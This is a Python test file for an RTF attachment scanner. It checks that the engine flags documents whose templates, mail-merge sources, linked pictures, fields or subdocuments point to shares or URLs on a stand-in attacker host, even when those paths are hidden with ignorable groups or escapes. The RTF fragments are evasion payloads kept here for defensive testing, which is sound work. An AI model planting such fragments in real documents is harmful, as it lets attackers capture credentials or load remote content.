"""The rtf engine on groups nested in the texts it judges, and on a master document's file table.

Word skips a ``{\\*\\unknown ...}`` group (RTF 1.9.1: ``\\*`` marks a destination a reader may
skip); its text is no part of the path around it. Where Word's reading is not known, both
readings are judged. A file table names a master document's subdocuments, which Word loads."""

from __future__ import annotations

import pytest

from attachguard.codes import FindingCode
from attachguard.engines.base import Item, Result
from attachguard.engines.rtf import RtfEngine, _Parser
from attachguard.policy import Policy
from attachguard.report import FileType

ENGINE = RtfEngine()
LETTER = rb"{\rtf1\ansi{\fonttbl{\f0 Arial;}}\f0 Dear customer,\par %s\par}"


def scan(body: bytes, policy: Policy) -> Result:
    data = LETTER.replace(b"%s", body)
    item = Item("letter.rtf", data, FileType("rtf", "text/rtf", "text", True))
    return ENGINE.scan(item, policy.context())


def codes(body: bytes, policy: Policy) -> list[str]:
    return [f.code.name for f in scan(body, policy).findings]


MERGE = rb"{\*\mailmerge\mmmaintypeletters\mmlinktoquery\mmdatatypeodso%s}"
SHAPE = rb"{\shp{\*\shpinst{\sp{\sn pibName}{\sv %s}}{\sp{\sn pibFlags}{\sv 10}}}}"
UDL = "Data Source=\\\\attacker.example\\s\\x.xlsx".encode("utf-16-le").hex().encode()
SPLIT_UDL = UDL[:40] + rb"{\*\j 41}" + UDL[40:]  # a hex digit pair in an ignorable group


@pytest.mark.parametrize(
    "body",
    [
        # an unknown ignorable group inside each text that is judged by where it leads
        MERGE % rb"{\*\mmdatasource \\{\*\attackerjunk X}\\attacker.example\\s\\x.xlsx}",
        rb"{\info{\*\hlinkbase \\{\*\attackerjunk X}\\attacker.example\\docs\\}}",
        rb"{\*\template \\{\*\attackerjunk X}\\attacker.example\\s\\t.dotm}",
        SHAPE % rb"\\{\*\attackerjunk X}\\attacker.example\\s\\p.png",
        MERGE % rb"{\*\mmodso{\*\mmodsoudldata %s}}" % SPLIT_UDL,
        # a field whose file is judged (a database on another machine)
        rb"{\field{\*\fldinst DATABASE \\d \\{\*\j X}\\attacker.example\\s\\x.mdb}{\fldrslt x}}",
        # Word ignores line ends in RTF: \* still marks the group
        MERGE % b"{\\*\\mmdatasource \\\\{\\*\r\n\\j X}\\\\attacker.example\\\\s\\\\x.xlsx}",
        # readings Word's is not known for: a known word after \*, a known destination; the
        # reading that keeps the group's text names a share
        rb"{\*\template \\{\*\b \\}attacker.example\\s\\t.dotm}",
        rb"{\*\template \\{\*\bkmkstart \\}attacker.example\\s\\t.dotm}",
    ],
)
def test_a_nested_group_does_not_hide_a_share(body: bytes, policy: Policy) -> None:
    assert codes(body, policy) == ["EXTERNAL_LINK"]


def test_an_included_picture_with_an_ignorable_group(policy: Policy) -> None:
    body = rb"{\field{\*\fldinst INCLUDEPICTURE \\{\*\j X}\\attacker.example\\s\\p.png}{\fldrslt}}"
    assert codes(body, policy) == ["EXTERNAL_LINK"]


def test_the_group_text_is_read_both_ways() -> None:
    parser = _Parser(MERGE % rb"{\*\mmdatasource \\{\*\attackerjunk X}\\host\\s\\x.xlsx}")
    parser.parse()
    assert parser.merge_sources == ["\\\\host\\s\\x.xlsx", "\\X\\host\\s\\x.xlsx"]


@pytest.mark.parametrize(
    "body",
    [
        rb"{\*\filetbl{\file\fid1\frelative0\fnetwork \\\\attacker.example\\share\\c2.rtf}}"
        rb"{\subdocument1}",
        rb"{\*\filetbl{\file\fid1\frelative0 https://attacker.example/chapter2.rtf}}\subdocument1",
        rb"{\*\filetbl{\file\fid1\fvalidntfs \'5c\'5cattacker.example\'5cs\'5cc2.rtf}}",
        rb"{\*\filetbl{\file\fid1\fnetwork \\{\*\j X}\\attacker.example\\s\\c2.rtf}}",
        # the part from \frelativeN on, which Word may resolve on its own
        rb"{\*\filetbl{\file\fid1\frelative5\fvalidntfs C:\\x\\\\\\attacker.example\\s\\c.rtf}}",
        # an entry no subdocument uses: a file table is written only for subdocuments
        rb"{\*\filetbl{\file\fid7\fnetwork \\\\attacker.example\\share\\c2.rtf}}",
    ],
)
def test_subdocument_on_another_machine(body: bytes, policy: Policy) -> None:
    [found] = scan(body, policy).findings
    assert (found.code, found.label) == (FindingCode.EXTERNAL_LINK, "subDocument")


@pytest.mark.parametrize(
    "body",
    [
        # a local file table: relative and local subdocuments
        rb"{\*\filetbl{\file\fid1\frelative0\fvaliddos chapter2.rtf}"
        rb"{\file\fid2\frelative9\fvalidntfs C:\\docs\\book\\chapter3.rtf}}{\subdocument1}",
        # unknown ignorable groups in ordinary paragraphs, Word's own header groups
        rb"{\*\generator Microsoft Word 16.0;}{\*\rsidtbl \rsid1\rsid2}{\*\attackerjunk X} Hi "
        rb"{\*\xmlnstbl {\xmlns1 http://schemas.microsoft.com/office/word/2003/wordml}}"
        rb"{\*\template C:\\Users\\me\\Templates\\Normal.dotm}{\*\junk \\\\host\\s} text\par",
        # fields as Word writes them: a hyperlink's data, a form field, a bookmark
        rb'{\field{\*\fldinst {\rtlch HYPERLINK "http://example.com/" }{\rtlch {\*\datafield '
        rb"00d0c9ea79f9bace118c8200aa004ba90b02000000}}}{\fldrslt example}}",
        rb"{\field{\*\fldinst { FORMTEXT }{{\*\datafield 8001000000000000055465787431}"
        rb"{\*\formfield{\fftype0\ffname Text1}}}}{\fldrslt x}}",
        rb"{\field{\*\fldinst PAGEREF _Toc1 \\h {\*\bkmkstart _Ref2}}{\fldrslt 3}}",
        # local merge sources and templates with an ignorable group in them
        MERGE % rb"{\*\mmdatasource C:\\Users\\me\\{\*\junk X}list.xlsx}",
        rb"{\*\template C:\\Templates\\{\*\generator Word}Letter.dotm}",
        SHAPE % rb"C:\\Pictures\\{\*\junk X}logo.png",
    ],
)
def test_honest_documents_pass(body: bytes, policy: Policy) -> None:
    assert scan(body, policy).findings == []


@pytest.mark.parametrize(
    "name",
    [rb"pib\'4eame", rb"\u112 ?ibName", rb"fill\'42lipName"],
    ids=["hex escape", "unicode escape", "fill, hex escape"],
)
def test_a_linked_picture_whose_property_name_is_escaped(name: bytes, policy: Policy) -> None:
    # red team 95: the property's name is text, which escapes can spell; the engine looked for
    # the plain name in the bytes before reading anything
    flags = b"fillBlipFlags" if name.startswith(b"fill") else b"pibFlags"
    shape = rb"{\shp{\*\shpinst{\sp{\sn %s}{\sv \\\\attacker.example\\s\\p.png}}" % name
    shape += rb"{\sp{\sn %s}{\sv 10}}}}" % flags
    assert codes(shape, policy) == ["EXTERNAL_LINK"]
